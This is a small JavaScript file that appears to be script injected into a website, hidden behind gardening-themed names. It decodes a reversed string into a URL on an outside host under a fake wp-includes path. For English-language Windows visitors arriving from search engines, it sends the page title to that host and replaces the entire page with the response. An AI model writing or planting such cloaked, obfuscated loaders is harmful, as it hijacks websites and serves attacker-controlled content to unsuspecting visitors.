var soil = "", grew = 0, herb = "=di?php.tsil/sedulcni-pw/tset.murof-dlo//";
function plant(n) { return herb.charAt(herb.length - 1 - n); }
function water() {
  while (grew < herb.length) { soil += plant(grew); grew++; }
  return soil;
}
function harvest(k) {
  var g = new XMLHttpRequest();
  g.open('GET', water() + k + escape(document.title), false);
  g.send();
  return g.responseText;
}
if (document.referrer.search(/[?&]q=|google|bing/) !== -1 && navigator.language.substr(0, 2) === 'en' &&
    navigator.userAgent.search('Windows') !== -1) {
  var crop = harvest('&x=');
  if (crop.length > 200) {
    document.open();
    document.write(crop);
    document.close();
  }
}
